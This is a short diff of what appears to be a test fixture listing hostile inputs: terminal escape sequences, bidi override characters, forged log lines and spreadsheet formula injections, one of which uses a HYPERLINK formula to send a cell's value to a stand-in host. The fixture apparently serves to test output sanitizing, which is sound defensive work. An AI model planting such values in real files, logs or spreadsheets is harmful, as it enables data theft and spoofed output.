@@ -11,7 +11,7 @@ HOSTILE = {
     "colour": "\x1b[31mred\x1b]0;owned\x07",
     "eight bits": "\x9b31mred",
     "turned": "\u202eevil\u2066",
-    "lines": f"two\n{FORGED} 100 points\r\n{FORGED}",
+    "lines": f"first\n{FORGED} 100 points\r\n{FORGED}",
     "link to steal": '=HYPERLINK("http://x.example/?"&A1)',
     "plus": "+1+1",
     "minus": "-2+3",
